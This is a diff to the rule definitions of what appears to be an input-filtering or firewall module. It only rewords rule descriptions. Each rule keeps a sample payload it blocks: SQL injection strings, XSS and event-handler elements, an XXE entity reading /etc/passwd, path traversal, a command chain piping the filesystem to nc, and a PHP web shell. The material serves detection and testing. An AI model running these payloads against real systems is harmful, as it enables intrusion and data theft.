@@ -82,7 +82,7 @@ export const RULES = [
   {
     id: 'sql-union',
     severity: 'critical',
-    finds: 'UNION SELECT with columns.',
+    finds: 'A `UNION SELECT` statement with columns.',
     blocked: strict("'+UNION+SELECT+1,2,3--+"),
     passes: prose('Union Select Committee: minutes of 3 May'),
     patterns: { ...machine(UNIONS), ...written(PROSE_UNIONS) },
@@ -102,7 +102,7 @@ export const RULES = [
   {
     id: 'sql-function',
     severity: 'high',
-    finds: 'Functions and tables that payloads use to wait, to read files or to return data.',
+    finds: 'SQL functions and tables that payloads use to wait, to read files or to return data.',
     blocked: strict('extractvalue(1, concat(0x7e, version()))'),
     passes: prose('How to sleep (8 hours) before the benchmark'),
     patterns: machine(FUNCTIONS),
@@ -131,7 +131,8 @@ export const RULES = [
   {
     id: 'script-tag',
     severity: 'critical',
-    finds: 'A script element. In prose, the rule matches only an element with active code or an external source.',
+    finds:
+      'A script element. In prose fields, the rule matches only an element with active code or an external source.',
     blocked: prose('<script>alert(1)</script>'),
     passes: prose('Training: the <script> element in HTML'),
     patterns: { ...machine(SCRIPT_TAGS), ...written(PROSE_SCRIPT_TAGS) },
@@ -142,7 +143,7 @@ export const RULES = [
     id: 'script-element',
     severity: 'high',
     finds:
-      'An HTML element. In prose, the rule matches only an element that runs code through an event handler or its URL.',
+      'An HTML element. In prose fields, the rule matches only an element that runs code through an event handler or its URL.',
     blocked: prose('<img src=x onerror=alert(1)>'),
     passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
     patterns: { ...machine(ELEMENTS), ...written(PROSE_ELEMENTS) },
@@ -180,7 +181,7 @@ export const RULES = [
   {
     id: 'xml-entity',
     severity: 'high',
-    finds: 'An XML document type or entity. In prose, the rule matches only an entity that reads a file.',
+    finds: 'An XML document type or entity. In prose fields, the rule matches only an entity that reads a file.',
     blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
     passes: prose('Entity <Holding> and its system <draft>'),
     patterns: { ...machine(ENTITIES), ...written(PROSE_ENTITIES) },
@@ -190,7 +191,8 @@ export const RULES = [
   {
     id: 'path-traversal',
     severity: 'high',
-    finds: 'A path that leaves its folder. In prose, the rule matches only a complete path to a system file.',
+    finds:
+      'A path that leads out of its folder. In prose fields, the rule matches only a complete path to a system file.',
     blocked: strict('.../.../win.ini'),
     passes: prose('See ../../Schedule 2'),
     patterns: {
@@ -241,7 +243,7 @@ export const RULES = [
     id: 'command-chain',
     severity: 'critical',
     finds:
-      "A shell command after another command and `;`, `|`, `&` or a line break. In prose, the rule matches only a command that reads the system's passwords.",
+      "A shell command after another command and `;`, `|`, `&` or a line break. In prose fields, the rule matches only a command that reads the system's passwords.",
     blocked: strict('; tar cf - / | nc host 80'),
     passes: prose('report.pdf; rm -rf dist'),
     patterns: machine(CHAINS),
@@ -251,7 +253,7 @@ export const RULES = [
     id: 'command-code',
     severity: 'critical',
     finds:
-      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls to `system` and similar functions. In prose, the rule matches only web shells and reverse shells.',
+      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls to `system` and similar functions. In prose fields, the rule matches only web shells and reverse shells.',
     blocked: prose("<?php system($_GET['cmd']); ?>"),
     passes: prose('The system (as delivered) may exec changes'),
     patterns: { ...machine(CODE), ...written(PROSE_CODE) },
